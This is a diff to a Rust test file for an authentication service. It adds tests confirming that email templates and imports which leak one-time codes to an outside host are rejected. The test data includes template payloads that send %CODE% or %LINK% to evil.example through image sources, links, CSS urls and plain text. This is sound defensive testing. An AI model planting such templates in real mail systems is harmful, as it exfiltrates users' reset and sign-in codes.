@@ -1,12 +1,17 @@
 //! What operators write into messages: what it may cost, and where it may lead.
 
 use latchkey_storage::Store;
+use latchkey_transfer::{Record, TemplateRecord};
 use serde_json::json;
 
 use crate::harness::{Answer, Made, PASSWORD, TestApp};
-use crate::on_every_store;
+use crate::{forged_keys, moving, on_every_store};
 
-on_every_store!(sec_129_a_hostile_template_costs_no_more_than_its_length);
+on_every_store!(
+    sec_129_a_hostile_template_costs_no_more_than_its_length,
+    sec_133_no_message_hands_its_code_to_another_host,
+    sec_133_no_import_brings_a_message_that_hands_its_code_on,
+);
 
 async fn word<S: Store>(app: &TestApp<S>, shop: &Made, id: &str, html: &str) -> Answer {
     let words = json!({"appId": shop.id, "_id": id, "subject": "Hello", "htmlTemplate": html});
@@ -36,5 +41,62 @@ async fn sec_129_a_hostile_template_costs_no_more_than_its_length<S: Store>(app:
         }
         let mail = app.mail("Hello").await;
         assert!(mail.text.chars().take(6).all(|c| c.is_ascii_digit()), "{:.40}", mail.text);
+    }
+}
+
+async fn sec_133_no_message_hands_its_code_to_another_host<S: Store>(app: TestApp<S>) {
+    let shop = app.app("Shop").await;
+    let picture = "<p>%CODE%</p><img src=\"https://evil.example/%CODE%.png\">";
+    for id in ["signUp-EN", "signUpLink-EN", "resetPassword-EN", "invite-EN", "signUpSuccess-EN", "sms-EN"] {
+        let answer = word(&app, &shop, id, picture).await;
+        assert_eq!(answer.error(), (400, 602), "{id}");
+        assert!(answer.text().contains("not in src"), "{}", answer.text());
+    }
+    for wrong in [
+        "<p>%CODE%</p><a href=\"https://evil.example/?u=%LINK%\">x</a>",
+        "<p>%CODE%</p><style>p { background: url(//evil.example/%CODE%) }</style>",
+        "<p>https://evil.example/%CODE%</p>",
+    ] {
+        assert_eq!(word(&app, &shop, "resetPassword-EN", wrong).await.error(), (400, 602), "{wrong}");
+    }
+    let own = format!(
+        "<p>%CODE%</p><a href=\"shop://reset?code=%CODE%\">Open the app</a><a href=\"{}/x?code=%CODE%\">x</a>",
+        app.service.public_url(),
+    );
+    assert_eq!(word(&app, &shop, "resetPassword-EN", &own).await.status, 200);
+}
+
+async fn sec_133_no_import_brings_a_message_that_hands_its_code_on<S: Store>(app: TestApp<S>) {
+    const HARMLESS: &str = "<p>Mine: %CODE%</p>";
+    let picture = "<p>Mine: %CODE%</p><img src=https://evil.example/%CODE%.png>";
+    let shop = app.app("Shop").await;
+    assert_eq!(word(&app, &shop, "resetPassword-EN", HARMLESS).await.status, 200);
+    let messages = async |app_id: &str| app.admin_get(&format!("emailTemplates?appId={app_id}")).await.text();
+
+    let zip = app.admin_get(&format!("export?appId={}", shop.id)).await.body;
+    let zip = moving::edited(&zip, "email-template-collection.csv", |text| text.replace(HARMLESS, picture));
+    let answer = moving::upload_as(&app, "Zip", &zip).await;
+    assert!(answer.text().contains("the message resetPassword in EN: "), "{}", answer.text());
+    assert!(!messages(&answer.field("appId")).await.contains("Mine"));
+
+    let (mut head, members) = forged_keys::archive_of(&app, &shop).await;
+    let message = |html: &str| TemplateRecord {
+        name: "resetPassword".to_owned(),
+        locale: "EN".to_owned(),
+        subject: "Hello".to_owned(),
+        reply_to: String::new(),
+        html: html.to_owned(),
+        link_text: String::new(),
+        created_at: head.app.created_at,
+        updated_at: head.app.created_at,
+    };
+    let records = [Record::Template(message(picture)), Record::Template(message(HARMLESS))];
+    let checked = format!("{:?}", app.service.check_records(&head.app, &records).await.unwrap());
+    assert_eq!(checked.matches("the built-in words are used").count(), 1, "{checked}");
+    for (html, is_kept) in [(picture, false), (HARMLESS, true)] {
+        head.templates = vec![message(html)];
+        forged_keys::remove(&app, &shop).await;
+        forged_keys::import(&app, head.clone(), members.clone()).await.unwrap();
+        assert_eq!(messages(&shop.id).await.contains("Mine"), is_kept, "{html}");
     }
 }
